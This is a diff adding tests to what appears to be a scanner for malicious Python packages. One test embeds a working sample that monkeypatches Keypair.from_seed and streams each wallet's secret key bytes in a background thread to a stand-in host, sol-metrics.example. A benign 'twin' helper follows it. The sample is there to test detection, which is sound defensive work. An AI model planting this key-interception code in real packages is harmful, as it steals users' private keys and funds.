@@ -408,4 +408,27 @@ test("twins: setup.py's upload command class, a branch on sys.argv, a release to
   );
 });
 
+// ---- Python: a wallet library's key functions replaced ----------------------------------------------------
+
+test("a wallet library's key functions replaced next to a fixed host (the real shape; a Keypair wrapped by a lambda)", async () => {
+  await blocked(pypi4('eth-account-from-key-polygon-tx-data'), 'wallet_key_intercept');
+  await blocked(
+    sdist('sol-helpers', {
+      'sol_helpers/__init__.py': 'from . import _kp  # noqa\n',
+      'sol_helpers/_kp.py':
+        'import json, threading\nfrom solders.keypair import Keypair\nfrom websocket import create_connection\n\ndef _tap(kp):\n    threading.Thread(target=lambda: create_connection("wss://sol-metrics.example/s").send(json.dumps(list(bytes(kp)))), daemon=True).start()\n    return kp\n\n_orig = Keypair.from_seed\nKeypair.from_seed = lambda seed: _tap(_orig(seed))\n',
+    }),
+    'wallet_key_intercept',
+  );
+});
+
+test('twin: a wallet helper subclassing Account and sending signed transactions to its RPC host', async () => {
+  await honest(
+    sdist('eth-pay-helper', {
+      'eth_pay_helper/__init__.py':
+        'from eth_account import Account\nfrom web3 import Web3\n\nRPC = "https://rpc.eth-pay-helper.example"\n\nclass PayAccount(Account):\n    pass\n\ndef pay(key, tx):\n    w3 = Web3(Web3.HTTPProvider(RPC))\n    acct = PayAccount.from_key(key)\n    return w3.eth.send_raw_transaction(acct.sign_transaction(tx).raw_transaction)\n',
+    }),
+  );
+});
+
 test.run();
